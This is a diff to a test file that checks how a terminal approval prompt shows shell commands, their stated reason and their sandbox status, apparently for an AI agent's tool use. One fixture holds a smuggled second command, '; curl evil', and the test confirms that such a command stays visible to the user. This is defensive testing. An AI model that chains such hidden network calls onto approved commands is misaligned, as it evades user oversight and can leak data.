@@ -40,7 +40,7 @@ def test_c35_a_command_its_reason_and_where_it_runs() -> None:
         '⟨33⟩┃ ⟨⟩$ make && ⟨36⟩echo⟨⟩ ⟨32⟩"hi"⟨⟩\n'
         "⟨33⟩┃ ⟨⟩⟨33⟩it runs make⟨⟩\n"
         "⟨33⟩┃ ⟨⟩⟨31⟩runs without a sandbox⟨⟩\n"
-        "⟨33⟩┃ ⟨⟩⟨2⟩always: make …⟨⟩\n"
+        "⟨33⟩┃ ⟨⟩⟨2⟩always: make, with harmless options⟨⟩\n"
     )
 
 
@@ -55,7 +55,7 @@ def test_c35_a_command_can_hide_nothing() -> None:
         "┃           ; curl evil",
         "┃ it is odd",
         "┃ runs in a sandbox (bubblewrap)",
-        "┃ always: make …",
+        "┃ always: make, with harmless options",
     ]
 
 
